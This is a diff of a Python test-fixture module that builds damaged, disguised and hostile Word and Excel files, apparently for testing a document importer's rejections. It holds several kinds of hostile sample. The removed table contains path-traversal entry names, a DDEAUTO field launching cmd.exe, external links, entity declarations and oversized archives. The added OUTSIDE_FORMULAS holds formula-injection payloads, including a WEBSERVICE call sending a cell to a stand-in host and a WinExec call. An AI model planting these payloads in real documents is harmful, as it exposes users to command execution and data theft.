@@ -1,10 +1,11 @@
-"""Files that nobody should read, made here: damaged, disguised, or built to do harm. {name: (bytes, reason)}."""
+"""How files are made that nobody should read: damaged, disguised, or built to do harm (`hostile_files`)."""
 
 import io
 import struct
 import zipfile
 import zlib
 from collections.abc import Callable
+from dataclasses import dataclass
 
 import docx
 import xlsxwriter
@@ -89,11 +90,15 @@ def locked(content: bytes) -> bytes:
     return bytes(data)
 
 
-def twice(content: bytes) -> bytes:
+def twice(content: bytes, name: str) -> bytes:
     out = io.BytesIO(content)
     with zipfile.ZipFile(out, "a") as archive:
-        archive.writestr("Word/Document.xml", b"<x/>")
+        archive.writestr(name.title(), b"<x/>")
     return out.getvalue()
+
+
+def without(content: bytes, name: str) -> bytes:
+    return packed({other: part for other, part in parts(content).items() if other != name})
 
 
 def with_wrong_sum(content: bytes, name: str) -> bytes:
@@ -135,84 +140,76 @@ def deep(levels: int) -> Callable[[bytes], bytes]:
     )
 
 
-WORD, EXCEL = plain_word(), plain_excel()
-RELS, BOOK_RELS = "word/_rels/document.xml.rels", "xl/_rels/workbook.xml.rels"
+def split_field(*pieces: str) -> Callable[[bytes], bytes]:
+    """The instruction of one field in several runs, as Word cuts it."""
+    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
+    start, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
+    run = f"<w:p>{start}{runs}{end}</w:p><w:sectPr".encode()
+    return lambda part: part.replace(b"<w:sectPr", run, 1)
+
+
+def in_header(content: bytes, instruction: str) -> bytes:
+    head = f'<w:hdr xmlns:w="{W}"><w:p><w:r><w:instrText>{instruction}</w:instrText></w:r></w:p></w:hdr>'
+    return with_part(content, "word/header1.xml", head.encode())
+
+
+def formula(said: str) -> Callable[[bytes], bytes]:
+    row = f'<row r="9"><c r="A9"><f>{said}</f><v>1</v></c></row></sheetData>'.encode()
+    return lambda part: part.replace(b"</sheetData>", row)
+
+
+def renamed(content: bytes, name: str, other: str, change: Callable[[bytes], bytes]) -> bytes:
+    """A part under another name, wherever it is named."""
+    short, new = name.rsplit("/", 1)[-1].encode(), other.rsplit("/", 1)[-1].encode()
+    entries = {path: part.replace(short, new) for path, part in parts(content).items()}
+    moved = change(entries.pop(name))
+    return packed(entries | {other: moved})
+
+
+def many_heavy(content: bytes) -> bytes:
+    """Parts of 9 MB each, 81 MB together."""
+    return packed(parts(content) | {f"docProps/{n}.xml": b"<a>" + b" " * (9 * 1024 * 1024) + b"</a>" for n in range(9)})
+
+
+@dataclass(frozen=True)
+class Kind:
+    """A harmless file of one kind, and what its parts are called; `text` is the part that holds the words."""
+
+    name: str
+    content: bytes
+    folder: str
+    main: str
+    other_main: str
+    text: str
+    space: bytes
+
+    @property
+    def relations(self) -> str:
+        folder, name = self.main.split("/")
+        return f"{folder}/_rels/{name}.rels"
+
+
+STRICT = {"Word": b"http://purl.oclc.org/ooxml/wordprocessingml/main",
+          "Excel": b"http://purl.oclc.org/ooxml/spreadsheetml/main"}  # fmt: skip
+
+
+def strict(kind: Kind) -> bytes:
+    return changed(kind.content, kind.main, lambda part: part.replace(kind.space, STRICT[kind.name]))
+
+
+TYPES, SHEET = "[Content_Types].xml", "xl/worksheets/sheet1.xml"
 MACRO = b"application/vnd.ms-word.document.macroEnabled.main+xml"
 MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
-
-FILES: dict[str, tuple[bytes, str]] = {
-    "nothing": (b"", "empty"),
-    "a newer XLIFF": (b'<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.0"/>', "other_xliff"),
-    "only zeros": (b"\x00" * 4096, "empty"),
-    "a PDF named .docx": (b"%PDF-1.7\n1 0 obj", "pdf"),
-    "an RTF named .doc": (b"{\\rtf1\\ansi Hello}", "rtf"),
-    "a PNG named .docx": (b"\x89PNG\r\n\x1a\n" + b"x" * 50, "picture"),
-    "a JPEG named .xlsx": (b"\xff\xd8\xff\xe0" + b"x" * 50, "picture"),
-    "a RAR": (b"Rar!\x1a\x07\x00" + b"x" * 20, "archive"),
-    "a gzip": (b"\x1f\x8b\x08\x00" + b"x" * 20, "archive"),
-    "a zip of something": (packed({"readme.txt": b"hello"}), "not_office"),
-    "a web page named .docx": (b"<!DOCTYPE html><html><body>x</body></html>", "not_office"),
-    "Word 2003 XML": (b'<?xml version="1.0"?><w:wordDocument/>', "not_office"),
-    "a mail with a document": (b"MIME-Version: 1.0\nContent-Type: multipart/related\n\nx", "not_office"),
-    "bytes of a program": (b"MZ\x90\x00\x03\x00" + bytes(range(256)), "not_office"),
-    "an OpenDocument text": (packed({"mimetype": b"application/vnd.oasis.opendocument.text"}), "open_document"),
-    "a presentation": (packed({"[Content_Types].xml": b"<x/>", "ppt/presentation.xml": b"<x/>"}), "not_office"),
-    "a .doc of 1997": (OLE + b"\x00" * 512 + b"WordDocument", "old_format"),
-    "a .docx with a password": (OLE + b"\x00" * 512 + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
-    "entries with a password": (locked(WORD), "encrypted"),
-    "a workbook with a password on its entries": (locked(EXCEL), "encrypted"),
-    "the first half of a document": (WORD[: len(WORD) // 2], "damaged"),
-    "a document without its end": (WORD[:-30], "damaged"),
-    "the first half of a workbook": (EXCEL[: len(EXCEL) // 2], "damaged"),
-    "only the first bytes of a package": (b"PK\x03\x04", "damaged"),
-    "a part with a wrong checksum": (with_wrong_sum(WORD, "word/document.xml"), "damaged"),
-    "a document without its text": (packed({n: c for n, c in parts(WORD).items() if n != "word/document.xml"}),
-                                    "damaged"),
-    "a document without a list of types": (packed({n: c for n, c in parts(WORD).items() if n[0] != "["}), "damaged"),
-    "Word and Excel at once": (packed(parts(WORD) | {"xl/workbook.xml": b"<x/>"}), "damaged"),
-    "broken XML": (changed(WORD, "word/document.xml", lambda part: part[:-40]), "damaged"),
-    "broken XML in a workbook": (changed(EXCEL, "xl/worksheets/sheet1.xml", lambda part: part[:-40]), "damaged"),
-    "no body": (changed(WORD, "word/document.xml", lambda part: f'<w:document xmlns:w="{W}"/>'.encode()), "damaged"),
-    "300 levels deep": (changed(WORD, "word/document.xml", deep(300)), "damaged"),
-    "one name twice, in other letters": (twice(WORD), "damaged"),
-    "a name that climbs out": (with_part(WORD, "../../etc/cron.d/x"), "damaged"),
-    "a name from the root": (with_part(WORD, "/etc/passwd"), "damaged"),
-    "strict Open XML": (changed(WORD, "word/document.xml", lambda part: part.replace(
-        W.encode(), b"http://purl.oclc.org/ooxml/wordprocessingml/main")), "strict"),
-    "a strict workbook": (changed(EXCEL, "xl/workbook.xml", lambda part: part.replace(
-        b"http://schemas.openxmlformats.org/spreadsheetml/2006/main", b"http://purl.oclc.org/ooxml/spreadsheetml/main"
-    )), "strict"),
-    "macros": (with_part(WORD, "word/vbaProject.bin"), "macros"),
-    "macros in a workbook": (with_part(EXCEL, "xl/vbaProject.bin"), "macros"),
-    "macros of 1992": (with_part(EXCEL, "xl/macrosheets/sheet1.xml", b"<x/>"), "macros"),
-    "a type that allows macros": (changed(WORD, "[Content_Types].xml", lambda part: part.replace(MAIN, MACRO)),
-                                  "macros"),
-    "a control": (with_part(WORD, "word/activeX/activeX1.xml", b"<x/>"), "macros"),
-    "a template from elsewhere": (changed(WORD, RELS, related("attachedTemplate", "https://a.example/t.dotm")),
-                                  "external"),
-    "a picture from elsewhere": (changed(WORD, RELS, related("image", "http://10.0.0.1/x.png")), "external"),
-    "a picture from a share": (changed(WORD, RELS, related("image", "file://///10.0.0.1/x")), "external"),
-    "a workbook linked to another": (with_part(EXCEL, "xl/externalLinks/externalLink1.xml", b"<x/>"), "external"),
-    "a workbook with a database": (with_part(EXCEL, "xl/connections.xml", b"<x/>"), "external"),
-    "a workbook with a link to a path": (changed(EXCEL, BOOK_RELS, related("externalLinkPath", "file:///c:/x.xlsx")),
-                                         "external"),
-    "a DDE field": (changed(WORD, "word/document.xml", field("DDEAUTO c:\\\\windows\\\\cmd.exe")), "external"),
-    "a field that includes a text": (changed(WORD, "word/document.xml", field(" INCLUDETEXT file.docx")), "external"),
-    "a file within": (with_part(WORD, "word/embeddings/oleObject1.bin"), "embedded"),
-    "a program within": (with_part(WORD, "word/media/setup.exe"), "embedded"),
-    "a web page within": (changed(WORD, RELS, related("aFChunk", "chunk.html", outside=False)), "embedded"),
-    "a workbook with a file within": (with_part(EXCEL, "xl/embeddings/doc.docx"), "embedded"),
-    "entities in the text": (changed(WORD, "word/document.xml", declared), "entities"),
-    "entities in UTF-16": (changed(WORD, "word/document.xml", declared_wide), "entities"),
-    "entities in the properties": (changed(WORD, "docProps/core.xml", declared), "entities"),
-    "entities in the relations": (changed(WORD, RELS, declared), "entities"),
-    "entities in a sheet": (changed(EXCEL, "xl/worksheets/sheet1.xml", declared), "entities"),
-    "entities in the strings": (changed(EXCEL, "xl/sharedStrings.xml", declared), "entities"),
-    "100 MB of zeros": (huge("word/document.xml", WORD, 100), "too_heavy"),
-    "100 MB of zeros in a workbook": (huge("xl/sharedStrings.xml", EXCEL, 100), "too_heavy"),
-    "2 GB, as it says": (two_gigabytes(WORD), "too_heavy"),
-    "60 MB that say they are 100 bytes": (lying(WORD, "word/document.xml"), "damaged"),
-    "100,000 lines": (b"-\n" * 100_000, "too_heavy"),
-    "3,000 parts": (packed(parts(WORD) | {f"word/media/{n}.png": b"" for n in range(3000)}), "too_heavy"),
-    "a workbook of somebody else": (EXCEL, "no_form"),
-}  # fmt: skip
+WORD = Kind(
+    "Word", plain_word(), "word", "word/document.xml", "xl/workbook.xml", "word/document.xml", W.encode()
+)  # fmt: skip
+EXCEL = Kind(
+    "Excel", plain_excel(), "xl", "xl/workbook.xml", "word/document.xml", SHEET,
+    b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
+)  # fmt: skip
+OUTSIDE_FORMULAS = {
+    "a program": "cmd|&apos;/C calc&apos;!A0",
+    "an address": "_xlfn.WEBSERVICE(&quot;http://a.example/&quot;&amp;B2)",
+    "a server of data": "RTD(&quot;prog.id&quot;,,&quot;x&quot;)",
+    "a library": "CALL(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;,&quot;calc&quot;,0)",
+}
